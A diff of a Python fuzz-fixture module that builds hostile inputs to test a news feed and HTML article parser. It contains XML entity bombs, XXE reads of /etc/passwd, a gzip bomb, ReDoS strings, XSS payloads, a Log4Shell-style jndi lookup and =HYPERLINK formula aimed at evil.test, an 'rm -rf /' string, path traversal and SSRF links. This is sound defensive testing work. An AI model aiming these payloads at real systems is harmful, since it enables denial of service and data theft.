@@ -2,7 +2,7 @@
 
 `expect`  ok: parsed, with entries or text as `want` says; degrade: no crash, within the limits, a flag is fine;
           reject: refused with a reason, within the limits.
-Inputs are built when asked for (some are 17 MB); `build(name)` gives the bytes. @CANARY@ becomes an address that must
+Inputs are made when asked for (some are 17 MB); `build(name)` gives the bytes. @CANARY@ becomes an address that must
 never be asked for.
 """
 
@@ -12,7 +12,7 @@ import gzip
 import json
 import zlib
 from collections.abc import Callable
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from typing import Any
 
 
@@ -21,20 +21,9 @@ class Case:
     kind: str
     expect: str
     note: str
-    want: dict[str, Any] = field(default_factory=dict)
-    big: bool = False
+    want: dict[str, Any]
+    big: bool
     make: Callable[[], str | bytes]
-
-
-CASES: dict[str, Case] = {}
-
-
-def case(kind: str, expect: str, note: str, want: dict[str, Any] | None = None, big: bool = False) -> Any:
-    def kept(make: Callable[[], str | bytes]) -> Callable[[], str | bytes]:
-        CASES[make.__name__] = Case(kind=kind, expect=expect, note=note, want=want or {}, big=big, make=make)
-        return make
-
-    return kept
 
 
 HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'
@@ -90,540 +79,6 @@ def article(n=8):
     )
 
 
-# ---------------------------------------------------------------- XML entity attacks
-@case("feed", "reject", "billion laughs, 10 levels x10 = 3 GB")
-def f_billion_laughs():
-    d = (
-        '<!DOCTYPE rss [\n<!ENTITY l0 "lol">\n'
-        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">\n' for i in range(1, 11))
-        + "]>\n"
-    )
-    return rss(item(1, title="&l10;"), doctype=d)
-
-
-@case("feed", "reject", "billion laughs all on one line (defeats line-anchored regexes)")
-def f_billion_laughs_oneline():
-    d = (
-        '<!DOCTYPE rss [<!ENTITY l0 "lol">'
-        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 11))
-        + "]>"
-    )
-    return rss(item(1, title="&l10;"), doctype=d)
-
-
-@case("feed", "reject", "billion laughs in an attribute")
-def f_billion_laughs_attr():
-    d = (
-        '<!DOCTYPE rss [\n<!ENTITY l0 "lol">\n'
-        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">\n' for i in range(1, 11))
-        + "]>\n"
-    )
-    return rss('<item><title>x</title><enclosure url="&l10;" length="1" type="a/b"/></item>', doctype=d)
-
-
-@case("feed", "reject", "parameter-entity laughs")
-def f_param_entity_laughs():
-    d = (
-        "<!DOCTYPE rss [\n<!ENTITY % p0 \"<!ENTITY z 'lol'>\">\n"
-        + "".join(f'<!ENTITY % p{i} "{f"&#37;p{i - 1};" * 10}">\n' for i in range(1, 10))
-        + "%p9;\n]>\n"
-    )
-    return rss(item(1, title="&z;"), doctype=d)
-
-
-@case("feed", "reject", "quadratic blowup: one 50 kB entity, 20,000 references = 1 GB")
-def f_quadratic_blowup():
-    return rss(item(1, title="&a;" * 20000), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')
-
-
-@case("feed", "degrade", "quadratic blowup kept under expat's 8 MiB activation threshold (7 MB)")
-def f_quadratic_below_threshold():
-    return rss(item(1, title="&a;" * 140), doctype='<!DOCTYPE rss [\n<!ENTITY a "' + "A" * 50000 + '">\n]>\n')
-
-
-@case("feed", "reject", "external general entity file:///etc/passwd", want={"must_not_contain": "root:"})
-def f_xxe_file():
-    return rss(item(1, title="X&x;Y"), doctype='<!DOCTYPE rss [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n')
-
-
-@case(
-    "feed",
-    "ok",
-    "external DTD over HTTP (@CANARY@ is replaced by a canary URL): parse, never fetch it",
-    want={"entries": 1, "no_canary_hit": True},
-)
-def f_xxe_http_dtd():
-    return rss(item(1), doctype='<!DOCTYPE rss SYSTEM "@CANARY@/evil.dtd">\n')
-
-
-@case("feed", "reject", "external parameter entity", want={"no_canary_hit": True})
-def f_xxe_param():
-    return rss(item(1), doctype='<!DOCTYPE rss [\n<!ENTITY % p SYSTEM "@CANARY@/evil.dtd">\n%p;\n]>\n')
-
-
-@case("feed", "degrade", "XInclude of a local file", want={"must_not_contain": "root:"})
-def f_xinclude():
-    return rss(
-        item(1, title='<xi:include href="file:///etc/passwd" parse="text"/>'),
-        ns='xmlns:xi="http://www.w3.org/2001/XInclude"',
-    )
-
-
-@case(
-    "feed",
-    "ok",
-    "legitimate old Netscape RSS 0.91 DOCTYPE must still parse",
-    want={"entries": 1, "no_canary_hit": True},
-)
-def f_doctype_rss091():
-    return rss(
-        item(1),
-        doctype='<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n',
-    )
-
-
-@case("feed", "degrade", "DOCTYPE pointing to a local device file")
-def f_doctype_dev():
-    return rss(item(1), doctype='<!DOCTYPE rss SYSTEM "file:///dev/zero">\n')
-
-
-# ---------------------------------------------------------------- encodings
-@case("feed", "ok", "declared utf-8, bytes are latin-1", want={"entries": 1})
-def f_enc_declared_utf8_is_latin1():
-    return rss(item(1, title="Außenminister Müller")).encode("latin-1")
-
-
-@case("feed", "ok", "declared iso-8859-1, bytes are utf-8 (mojibake trap)", want={"entries": 1})
-def f_enc_declared_latin1_is_utf8():
-    return rss(item(1, title="Außenminister Müller"), head='<?xml version="1.0" encoding="iso-8859-1"?>\n').encode()
-
-
-@case("feed", "ok", "windows-1252 with „quotes“ and –", want={"entries": 1, "title": "„Gespräche“ – heute"})
-def f_enc_cp1252():
-    return rss(item(1, title="„Gespräche“ – heute"), head='<?xml version="1.0" encoding="windows-1252"?>\n').encode(
-        "cp1252"
-    )
-
-
-@case("feed", "ok", "UTF-16 LE without BOM", want={"entries": 1})
-def f_enc_utf16le_nobom():
-    return rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-16"?>\n').encode("utf-16-le")
-
-
-@case("feed", "ok", "UTF-16 with BOM but declared utf-8", want={"entries": 1})
-def f_enc_utf16_bom_declared_utf8():
-    return rss(item(1, title="Müller")).encode("utf-16")
-
-
-@case("feed", "ok", "UTF-32 with BOM", want={"entries": 1})
-def f_enc_utf32():
-    return rss(item(1, title="Müller"), head='<?xml version="1.0" encoding="utf-32"?>\n').encode("utf-32")
-
-
-@case("feed", "degrade", "declared utf-7 (filter-evasion)")
-def f_enc_utf7():
-    return rss(
-        item(1, title="+ADw-script+AD4-alert(1)+ADw-/script+AD4-"), head='<?xml version="1.0" encoding="utf-7"?>\n'
-    )
-
-
-@case("feed", "degrade", "declared encoding does not exist")
-def f_enc_unknown():
-    return rss(item(1), head='<?xml version="1.0" encoding="x-klingon"?>\n')
-
-
-@case("feed", "degrade", "declared encoding is a Python byte codec (zip/rot13/idna)")
-def f_enc_python_codec():
-    return rss(item(1), head='<?xml version="1.0" encoding="zip"?>\n')
-
-
-@case("feed", "ok", "BOM + leading blank lines before XML declaration", want={"entries": 1})
-def f_leading_blank():
-    return b"\xef\xbb\xbf\r\n\r\n" + rss(item(1)).encode()
-
-
-@case("feed", "ok", "PHP warning text before XML declaration", want={"entries": 1})
-def f_leading_php_warning():
-    return "<br />\n<b>Warning</b>: mysql_connect() in /var/www/x.php on line 3<br />\n" + rss(item(1))
-
-
-@case("feed", "ok", "mixed CR, LF, CRLF", want={"entries": 2})
-def f_mixed_crlf():
-    return rss(item(1) + item(2)).replace("\n", "\r\n", 2).replace("<item>", "\r<item>\n")
-
-
-@case("feed", "degrade", "NUL bytes in title and guid")
-def f_nul_bytes():
-    return rss(item(1, title="A\x00B", guid="id\x001") + item(2))
-
-
-@case("feed", "degrade", "C0 control characters")
-def f_control_chars():
-    return rss(item(1, title="A\x01\x02\x0b\x1fB") + item(2))
-
-
-@case(
-    "feed",
-    "ok",
-    "numeric references to NUL, surrogates, U+FFFE, > U+10FFFF in one item must not cost the feed",
-    want={"entries": 2},
-)
-def f_bad_charrefs():
-    return rss(item(1, title="&#0;&#xD800;&#xFFFE;&#x110000;&#99999999999;") + item(2))
-
-
-@case("feed", "ok", "bidi overrides, zero-width, homoglyph NАТО (Cyrillic А)", want={"entries": 1})
-def f_bidi():
-    return rss(item(1, title="\u202eOTAN\u202c N\u0410\u0422\u041e Ge\u00adspr\u00e4che\u200b\ufeff"))
-
-
-@case("feed", "ok", "NFD instead of NFC umlauts", want={"entries": 1})
-def f_nfd():
-    import unicodedata
-
-    return unicodedata.normalize("NFD", rss(item(1, title="Außenminister Müller in Köln")))
-
-
-# ---------------------------------------------------------------- size / depth
-@case("feed", "reject", "1,000,000 nested elements", big=True)
-def f_nested_1m():
-    return rss("<item>" + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</item>")
-
-
-@case("feed", "reject", "1,000,000 nested, never closed, tag soup", big=True)
-def f_nested_unclosed_1m():
-    return HEAD + "<rss><channel><item><description>" + "<div>" * 1_000_000
-
-
-@case("feed", "degrade", "100,000 nested divs inside escaped description (sanitiser path)", big=True)
-def f_nested_in_content():
-    return rss(item(1, desc="&lt;div&gt;" * 100_000 + "x"))
-
-
-@case("feed", "degrade", "10 MB title on one line", big=True)
-def f_title_10mb():
-    return rss(item(1, title="A" * 10_000_000) + item(2))
-
-
-@case("feed", "degrade", "10 MB attribute", big=True)
-def f_attr_10mb():
-    return rss(
-        f'<item><title>x</title><enclosure url="https://e.test/{"a" * 10_000_000}" length="1" type="a/b"/></item>'
-    )
-
-
-@case("feed", "degrade", "200,000 attributes on one element", big=True)
-def f_attrs_200k():
-    return rss("<item " + " ".join(f'a{i}="1"' for i in range(200_000)) + "><title>x</title></item>")
-
-
-@case("feed", "degrade", "100,000 entries, 17 MB", big=True)
-def f_entries_100k():
-    return rss("".join(item(i) for i in range(100_000)))
-
-
-@case("feed", "degrade", "20,000 entries each with small HTML content", big=True)
-def f_entries_20k_html():
-    return rss(
-        "".join(
-            item(i, extra='<content:encoded><![CDATA[<p>Hallo <b>Welt</b> <a href="/x">y</a></p>]]></content:encoded>')
-            for i in range(20_000)
-        )
-    )
-
-
-@case("feed", "degrade", "1 MB guid", big=True)
-def f_guid_1mb():
-    return rss(item(1, guid="g" * 1_000_000) + item(2))
-
-
-@case("feed", "degrade", "100,000 namespaces", big=True)
-def f_ns_100k():
-    return rss("<item " + " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(100_000)) + "><title>x</title></item>")
-
-
-@case("feed", "reject", "2 MB of newlines, no tag (regex ^\\s* quadratic)", big=True)
-def f_redos_newlines():
-    return HEAD + "\n" * 2_000_000
-
-
-@case("feed", "degrade", "200 kB of blank lines before <rss> (regex ^\\s* quadratic, small file)")
-def f_redos_newlines_200k():
-    return HEAD + "\n" * 200_000 + rss(item(1), head="")
-
-
-@case("feed", "degrade", '300 kB of "<!" (tag-soup regexes)')
-def f_redos_bang():
-    return HEAD + "<rss><channel><item><title>" + "<!" * 150_000
-
-
-@case("feed", "degrade", '300 kB of "<" ')
-def f_redos_lt():
-    return HEAD + "<rss><channel><item><title>" + "<" * 300_000
-
-
-@case("feed", "degrade", '200,000 "&" without semicolon')
-def f_redos_amp():
-    return HEAD + "<rss><channel><item><title>" + "&" * 200_000
-
-
-@case("feed", "degrade", "style attribute, 100 kB, CSS sanitiser regexes")
-def f_redos_css():
-    return rss(item(1, desc='&lt;p style="' + "a:" * 50_000 + '"&gt;x&lt;/p&gt;'))
-
-
-@case("feed", "degrade", "date string of 100,000 digits/spaces (date regexes)")
-def f_redos_date():
-    return rss(item(1, date="1" * 50_000 + " " * 50_000 + "x") + item(2, date="Mon, " + "0" * 100_000))
-
-
-@case("feed", "degrade", "author regex bait, 100 kB (feedparser issue 562, still quadratic in 6.0.14)")
-def f_redos_author():
-    return rss(item(1, extra="<author>x@" + "a." * 50_000 + "!</author>") + item(2))
-
-
-# ---------------------------------------------------------------- structure
-@case("feed", "reject", "empty body")
-def f_empty():
-    return ""
-
-
-@case("feed", "reject", "whitespace only")
-def f_whitespace():
-    return " \n\t " * 100
-
-
-@case("feed", "degrade", "truncated in the middle of item 3 of 5", want={"min_entries": 2})
-def f_truncated():
-    s = rss("".join(item(i) for i in range(1, 6)))
-    return s[: s.index("Meldung 3") + 4]
-
-
-@case("feed", "degrade", "truncated inside a multi-byte character", want={"min_entries": 2})
-def f_truncated_multibyte():
-    s = rss("".join(item(i, title=f"Gespräche {i}") for i in range(1, 5))).encode()
-    return s[: s.index("Gespräche 3".encode()) + 6]
-
-
-@case("feed", "degrade", "unclosed CDATA")
-def f_unclosed_cdata():
-    return rss(item(1) + "<item><title><![CDATA[Offen</title></item>")
-
-
-@case("feed", "degrade", "unclosed comment")
-def f_unclosed_comment():
-    return rss(item(1) + "<!-- offen " + item(2))
-
-
-@case("feed", "degrade", "two concatenated documents")
-def f_two_roots():
-    return rss(item(1)) + rss(item(2))
-
-
-@case("feed", "ok", "unescaped & in title and link", want={"entries": 2})
-def f_raw_ampersand():
-    return rss(item(1, title="Krieg & Frieden", link="https://example.test/a?x=1&y=2") + item(2))
-
-
-@case("feed", "ok", "undeclared HTML entity &nbsp; &uuml;", want={"entries": 1})
-def f_html_entities():
-    return rss(item(1, title="M&uuml;ller&nbsp;&ndash;&nbsp;heute"))
-
-
-@case("feed", "ok", "undeclared namespace prefix", want={"entries": 1})
-def f_undeclared_ns():
-    return rss(item(1, extra='<media:content url="https://e.test/x.jpg"/>'))
-
-
-@case("feed", "reject", "HTTP 200 HTML error page instead of feed")
-def f_html_error_page():
-    return html("<h1>503 Service Unavailable</h1><p>Wartungsarbeiten</p>")
-
-
-@case("feed", "reject", "HTTP 200 consent wall instead of feed")
-def f_html_consent():
-    return html(
-        '<div id="sp_message_container"><h2>Wir und unsere Partner brauchen Ihre Zustimmung</h2><button>Alle akzeptieren</button></div><script src="https://cmp.example.test/x.js"></script>'
-    )
-
-
-@case("feed", "reject", "login page with redirects in meta refresh")
-def f_html_login():
-    return html(
-        "<form action=/login><input name=u><input name=p type=password></form>",
-        head='<meta http-equiv=refresh content="0;url=/login">',
-    )
-
-
-@case("feed", "reject", "bot challenge page")
-def f_html_challenge():
-    return html(
-        "<noscript>Enable JavaScript and cookies to continue</noscript>", head="<title>Just a moment...</title>"
-    )
-
-
-@case("feed", "degrade", "JSON Feed 1.1")
-def f_json_feed():
-    return json.dumps(
-        {
-            "version": "https://jsonfeed.org/version/1.1",
-            "title": "T",
-            "items": [
-                {
-                    "id": "1",
-                    "url": "https://example.test/a/1",
-                    "title": "Meldung",
-                    "content_text": "x",
-                    "date_published": "2022-01-10T15:30:00+01:00",
-                }
-            ],
-        }
-    )
-
-
-@case("feed", "reject", "JSON nested 100,000 deep")
-def f_json_deep():
-    return "[" * 100_000
-
-
-@case("feed", "reject", "PNG bytes with feed content type")
-def f_png():
-    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 50
-
-
-@case("feed", "reject", "PDF")
-def f_pdf():
-    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0" * 2000
-
-
-@case(
-    "feed", "reject", "body is a local path: feedparser.parse(bytes) would open it", want={"must_not_contain": "root:"}
-)
-def f_body_is_path():
-    return b"/etc/passwd"
-
-
-@case("feed", "reject", "body is a URL: feedparser.parse(str) would fetch it", want={"no_canary_hit": True})
-def f_body_is_url():
-    return "@CANARY@/ssrf-by-body"
-
-
-@case("feed", "reject", "gzip bomb 1000:1 as body without header (100 MB)")
-def f_body_is_gzip_bomb():
-    return gzip.compress(b"<rss>" + b" " * 100_000_000, 9, mtime=0)
-
-
-@case("feed", "ok", "gzip body without Content-Encoding header", want={"entries": 1})
-def f_body_gzip_noheader():
-    return gzip.compress(rss(item(1)).encode(), mtime=0)
-
-
-# ---------------------------------------------------------------- identity, dates
-@case("feed", "ok", "missing guid (link is identity)", want={"entries": 2})
-def f_no_guid():
-    return rss(item(1, guid="") + item(2, guid=""))
-
-
-@case("feed", "ok", "missing link, guid only", want={"entries": 2})
-def f_no_link():
-    return rss(item(1, link="") + item(2, link=""))
-
-
-@case("feed", "ok", "neither guid nor link", want={"entries": 2})
-def f_no_guid_no_link():
-    return rss(item(1, guid="", link="") + item(2, guid="", link=""))
-
-
-@case("feed", "ok", "empty guid element", want={"entries": 2})
-def f_empty_guid():
-    return rss(item(1, guid=" ") + item(2, guid=" "))
-
-
-@case("feed", "ok", "same guid, different links (two different articles)", want={"entries": 2, "distinct_articles": 2})
-def f_dup_guid():
-    return rss(item(1, guid="same") + item(2, guid="same"))
-
-
-@case("feed", "ok", "same item twice in one document", want={"entries": 2, "distinct_articles": 1})
-def f_dup_item():
-    return rss(item(1) + item(1))
-
-
-@case(
-    "feed",
-    "ok",
-    "same article under http/https, utm_*, trailing slash, fragment, AMP",
-    want={"entries": 6, "distinct_articles": 1},
-)
-def f_link_variants():
-    ls = [
-        "https://example.test/a/1",
-        "http://example.test/a/1",
-        "https://example.test/a/1/",
-        "https://example.test/a/1?utm_source=rss",
-        "https://example.test/a/1#c",
-        "https://EXAMPLE.test:443/a/1",
-    ]
-    return rss("".join(item(1, link=l.replace("&", "&amp;"), guid=f"g{i}") for i, l in enumerate(ls)))
-
-
-@case(
-    "feed",
-    "ok",
-    "invalid dates: Feb 30, year 1, year 9999, year 0, epoch 0, words, German, tz +9999, leap second, missing",
-    want={"entries": 16},
-)
-def f_bad_dates():
-    ds = [
-        "Wed, 30 Feb 2022 10:00:00 GMT",
-        "0001-01-01T00:00:00Z",
-        "Fri, 31 Dec 9999 23:59:59 GMT",
-        "9999-12-31T23:59:59-12:00",
-        "0000-00-00T00:00:00Z",
-        "Thu, 01 Jan 1970 00:00:00 GMT",
-        "gestern",
-        "Mo, 10 Jan 2022 15:30:00 MEZ",
-        "10.01.2022 15:30 Uhr",
-        "Mon, 10 Jan 2022 15:30:00 +9999",
-        "2016-12-31T23:59:60Z",
-        "Mon, 10 Jan 22 15:30 GMT",
-        "1641825000",
-        "２０２２-01-10",
-        "Mon, 10 Jan 2022 25:61:61 GMT",
-        "",
-    ]
-    return rss("".join(item(i, date=d) for i, d in enumerate(ds)))
-
-
-@case("feed", "ok", "dates in the future (+1 h, 2099)", want={"entries": 2})
-def f_future_dates():
-    return rss(item(1, date="Thu, 01 Jan 2099 00:00:00 GMT") + item(2, date="Fri, 01 Jan 2038 03:14:08 GMT"))
-
-
-@case(
-    "feed",
-    "ok",
-    "DST: 02:30 on 2022-03-27 (does not exist) and 2022-10-30 (twice), CET/CEST/MESZ names",
-    want={"entries": 5},
-)
-def f_dst_dates():
-    return rss(
-        "".join(
-            item(i, date=d)
-            for i, d in enumerate(
-                [
-                    "Sun, 27 Mar 2022 02:30:00 CET",
-                    "Sun, 30 Oct 2022 02:30:00 CEST",
-                    "Sun, 30 Oct 2022 02:30:00 CET",
-                    "Sun, 30 Oct 2022 02:30:00 MESZ",
-                    "2022-10-30T02:30:00 Europe/Berlin",
-                ]
-            )
-        )
-    )
-
-
-# ---------------------------------------------------------------- injection
 XSS = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
@@ -641,55 +96,6 @@ XSS = [
     '<img src="http://tracker.test/p.gif">',
     '"><script>alert(1)</script>',
 ]
-
-
-@case(
-    "feed",
-    "ok",
-    "stored-XSS payloads in title, description, content, author, category, link",
-    want={"entries": len(XSS), "no_active_html": True},
-)
-def f_xss():
-    from xml.sax.saxutils import escape as e
-
-    return rss(
-        "".join(
-            item(
-                i,
-                title=e(x),
-                desc=e(x),
-                extra=f"<content:encoded><![CDATA[{x}]]></content:encoded><dc:creator>{e(x)}</dc:creator><category>{e(x)}</category>",
-            )
-            for i, x in enumerate(XSS)
-        )
-    )
-
-
-@case(
-    "feed",
-    "ok",
-    "markdown / Slack / Discord / Jinja / CSV / log / e-mail injection in titles",
-    want={"entries": 13, "no_active_markup": True},
-)
-def f_text_injection():
-    from xml.sax.saxutils import escape as e
-
-    ts = [
-        "[klick](javascript:alert(1))",
-        "![x](http://tracker.test/p.gif)",
-        "<!channel> Eilmeldung",
-        "@everyone Eilmeldung",
-        "{{7*7}} {% raw %}",
-        "${jndi:ldap://evil.test/a}",
-        '=HYPERLINK("http://evil.test","x")',
-        "Titel&#13;&#10;Bcc: opfer@evil.test",
-        "Titel\x1b[2J\x1b[31mrot".replace("\x1b", "&#x241b;"),
-        "`rm -rf /`",
-        "| a | b |\n|---|---|",
-        "</script><script>alert(1)</script>",
-        "<https://evil.test|tagesschau.de>",
-    ]
-    return rss("".join(item(i, title=(e(t) if "&#" not in t else t)) for i, t in enumerate(ts)))
 
 
 URLS = [
@@ -728,244 +134,306 @@ URLS = [
 ]
 
 
-@case(
-    "feed",
-    "ok",
-    "SSRF / scheme / credential / header-splitting URLs as item links",
-    want={"entries": len(URLS), "no_fetch_of_non_public": True},
-)
-def f_evil_links():
+def _laughs(end="\n"):
+    """A DOCTYPE whose entity l10 is ten thousand million words."""
+    nested = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">{end}' for i in range(1, 11))
+    return f'<!DOCTYPE rss [{end}<!ENTITY l0 "lol">{end}{nested}]>{end}'
+
+
+def _param_entity_laughs():
+    d = (
+        "<!DOCTYPE rss [\n<!ENTITY % p0 \"<!ENTITY z 'lol'>\">\n"
+        + "".join(f'<!ENTITY % p{i} "{f"&#37;p{i - 1};" * 10}">\n' for i in range(1, 10))
+        + "%p9;\n]>\n"
+    )
+    return rss(item(1, title="&z;"), doctype=d)
+
+
+def _nfd():
+    import unicodedata
+
+    return unicodedata.normalize("NFD", rss(item(1, title="Außenminister Müller in Köln")))
+
+
+def _truncated():
+    s = rss("".join(item(i) for i in range(1, 6)))
+    return s[: s.index("Meldung 3") + 4]
+
+
+def _truncated_multibyte():
+    s = rss("".join(item(i, title=f"Gespräche {i}") for i in range(1, 5))).encode()
+    return s[: s.index("Gespräche 3".encode()) + 6]
+
+
+def _link_variants():
+    ls = [
+        "https://example.test/a/1",
+        "http://example.test/a/1",
+        "https://example.test/a/1/",
+        "https://example.test/a/1?utm_source=rss",
+        "https://example.test/a/1#c",
+        "https://EXAMPLE.test:443/a/1",
+    ]
+    return rss("".join(item(1, link=l.replace("&", "&amp;"), guid=f"g{i}") for i, l in enumerate(ls)))
+
+
+def _bad_dates():
+    ds = [
+        "Wed, 30 Feb 2022 10:00:00 GMT",
+        "0001-01-01T00:00:00Z",
+        "Fri, 31 Dec 9999 23:59:59 GMT",
+        "9999-12-31T23:59:59-12:00",
+        "0000-00-00T00:00:00Z",
+        "Thu, 01 Jan 1970 00:00:00 GMT",
+        "gestern",
+        "Mo, 10 Jan 2022 15:30:00 MEZ",
+        "10.01.2022 15:30 Uhr",
+        "Mon, 10 Jan 2022 15:30:00 +9999",
+        "2016-12-31T23:59:60Z",
+        "Mon, 10 Jan 22 15:30 GMT",
+        "1641825000",
+        "２０２２-01-10",
+        "Mon, 10 Jan 2022 25:61:61 GMT",
+        "",
+    ]
+    return rss("".join(item(i, date=d) for i, d in enumerate(ds)))
+
+
+def _xss():
+    from xml.sax.saxutils import escape as e
+
+    return rss(
+        "".join(
+            item(
+                i,
+                title=e(x),
+                desc=e(x),
+                extra=f"<content:encoded><![CDATA[{x}]]></content:encoded><dc:creator>{e(x)}</dc:creator><category>{e(x)}</category>",
+            )
+            for i, x in enumerate(XSS)
+        )
+    )
+
+
+def _text_injection():
+    from xml.sax.saxutils import escape as e
+
+    ts = [
+        "[klick](javascript:alert(1))",
+        "![x](http://tracker.test/p.gif)",
+        "<!channel> Eilmeldung",
+        "@everyone Eilmeldung",
+        "{{7*7}} {% raw %}",
+        "${jndi:ldap://evil.test/a}",
+        '=HYPERLINK("http://evil.test","x")',
+        "Titel&#13;&#10;Bcc: opfer@evil.test",
+        "Titel\x1b[2J\x1b[31mrot".replace("\x1b", "&#x241b;"),
+        "`rm -rf /`",
+        "| a | b |\n|---|---|",
+        "</script><script>alert(1)</script>",
+        "<https://evil.test|tagesschau.de>",
+    ]
+    return rss("".join(item(i, title=(e(t) if "&#" not in t else t)) for i, t in enumerate(ts)))
+
+
+def _evil_links():
     from xml.sax.saxutils import escape as e
 
     return rss("".join(item(i, link=e(u), guid=f"g{i}") for i, u in enumerate(URLS)))
 
 
-@case("feed", "ok", "path traversal in guid/title (if ever used as a file name)", want={"entries": 4})
-def f_path_traversal():
-    return rss(
-        item(1, guid="../../../../etc/cron.d/x")
-        + item(2, guid="..\\..\\x")
-        + item(3, guid="/etc/passwd")
-        + item(4, guid="a" * 300 + "/CON")
-    )
-
-
-# ---------------------------------------------------------------- HTML articles
-@case("html", "ok", "plain good article", want={"min_chars": 800})
-def h_good():
-    return html(article())
-
-
-@case("html", "reject", "1,000,000 nested <div>", big=True)
-def h_nested_div_1m():
-    return html("<div>" * 1_000_000 + ART + "</div>" * 1_000_000)
-
-
-@case("html", "degrade", "10,000 nested <div> around a good article")
-def h_nested_div_10k():
-    return html("<div>" * 10_000 + article() + "</div>" * 10_000)
-
-
-@case("html", "degrade", "200 nested <div> around a good article", want={"min_chars": 800})
-def h_nested_div_200():
-    return html("<div>" * 200 + article() + "</div>" * 200)
-
-
-@case("html", "degrade", "1,000,000 nested <b>, unclosed", big=True)
-def h_nested_b_1m():
-    return html(article() + "<b>" * 1_000_000)
-
-
-@case("html", "degrade", "10 MB single text line in one <p>", big=True)
-def h_line_10mb():
-    return html("<article><p>" + ART * 47_000 + "</p></article>")
-
-
-@case("html", "degrade", "10 MB single word", big=True)
-def h_word_10mb():
-    return html("<article><p>" + "a" * 10_000_000 + "</p></article>")
-
-
-@case("html", "degrade", "200,000 short paragraphs, 9 MB", big=True)
-def h_paras_200k():
-    return html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 200_000 + "</article>")
-
-
-@case("html", "degrade", "20,000 paragraphs, 0.9 MB")
-def h_paras_20k():
-    return html("<article>" + "<p>Ein kurzer Satz über Gespräche in Genf.</p>" * 20_000 + "</article>")
-
-
-@case("html", "degrade", "100,000 table rows", big=True)
-def h_table_100k():
-    return html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 100_000 + "</table></article>")
-
-
-@case("html", "degrade", "10,000 table rows")
-def h_table_10k():
-    return html("<article><table>" + "<tr><td>Zelle</td><td>Zelle</td></tr>" * 10_000 + "</table></article>")
-
-
-@case("html", "degrade", "100,000 links", big=True)
-def h_links_100k():
-    return html(article() + "".join(f'<a href="/x{i}">Link {i}</a>' for i in range(100_000)))
-
-
-@case("html", "degrade", "20,000 nested lists")
-def h_nested_lists():
-    return html(article() + "<ul><li>" * 20_000)
-
-
-@case("html", "degrade", "100,000 <br>")
-def h_br_100k():
-    return html(article() + "<p>" + "<br>" * 100_000 + "</p>")
-
-
-@case("html", "degrade", '1,000,000 "<"', big=True)
-def h_lt_1m():
-    return html("<article><p>" + "<" * 1_000_000)
-
-
-@case("html", "degrade", '500,000 "<!--" unclosed', big=True)
-def h_comments():
-    return html(article() + "<!--" * 500_000)
-
-
-@case("html", "degrade", "100,000 attributes", big=True)
-def h_attrs():
-    return html("<article " + " ".join(f"a{i}=1" for i in range(100_000)) + "><p>" + ART * 5 + "</p></article>")
-
-
-@case("html", "degrade", "JSON-LD nested 100,000 deep (json RecursionError)")
-def h_jsonld_deep():
-    return html(
-        article(),
-        head='<meta charset=utf-8><title>T</title><script type="application/ld+json">'
-        + '{"a":' * 100_000
-        + "1"
-        + "}" * 100_000
-        + "</script>",
-    )
-
-
-@case("html", "degrade", "JSON-LD with regex-unfriendly 500 kB")
-def h_jsonld_redos():
-    return html(
-        article(),
-        head='<meta charset=utf-8><title>T</title><script type="application/ld+json">{"@type":"NewsArticle","author":'
-        + '{"@type":"Person","name":' * 20_000
-        + "</script>",
-    )
-
-
-@case("html", "degrade", "date-regex bait: 300 kB of digits and dots")
-def h_date_redos():
-    return html(article() + "<p>" + "10.01." * 50_000 + "</p><time>" + "2022-" * 20_000 + "</time>")
-
-
-@case("html", "degrade", "meta tags with 1 MB values")
-def h_meta_huge():
-    return html(
-        article(),
-        head='<meta charset=utf-8><meta property="og:title" content="'
-        + "T" * 500_000
-        + '"><meta name=author content="'
-        + "von " * 100_000
-        + '">',
-    )
-
-
-@case("html", "degrade", "NUL and control bytes in text", want={"min_chars": 700})
-def h_nul():
-    return html(article().replace("Genf", "Ge\x00nf\x01"))
-
-
-@case("html", "ok", "header says utf-8, bytes latin-1, meta says utf-8", want={"min_chars": 800, "text": "Gespräche"})
-def h_enc_latin1():
-    return html(article()).encode("latin-1")
-
-
-@case("html", "ok", "meta iso-8859-1, bytes utf-8", want={"min_chars": 800, "text": "Gespräche"})
-def h_enc_conflict():
-    return html(article(), head='<meta charset="iso-8859-1"><title>T</title>').encode()
-
-
-@case("html", "ok", "UTF-16 LE without BOM", want={"min_chars": 800, "text": "Gespräche"})
-def h_utf16_nobom():
-    return html(article()).encode("utf-16-le")
-
-
-@case("html", "degrade", "article truncated half-way through the body (must be flagged as truncated)")
-def h_truncated():
+def _half_a_page():
     s = html(article(10))
     return s[: len(s) // 2]
 
 
-@case("html", "reject", "consent wall, HTTP 200")
-def h_consent():
-    return f_html_consent()
+BIG: dict[str, Any] = {"big": True}
+_ROWS: tuple[tuple[str, str, str, dict[str, Any], Callable[[], str | bytes]], ...] = (
+    # XML entity attacks
+    ("f_billion_laughs", "reject", "billion laughs, 10 levels x10 = 3 GB", {}, lambda: rss(item(1, title="&l10;"), doctype=_laughs())),
+    ("f_billion_laughs_oneline", "reject", "billion laughs all on one line (defeats line-anchored regexes)", {},
+     lambda: rss(item(1, title="&l10;"), doctype=_laughs(""))),
+    ("f_billion_laughs_attr", "reject", "billion laughs in an attribute", {},
+     lambda: rss('<item><title>x</title><enclosure url="&l10;" length="1" type="a/b"/></item>', doctype=_laughs())),
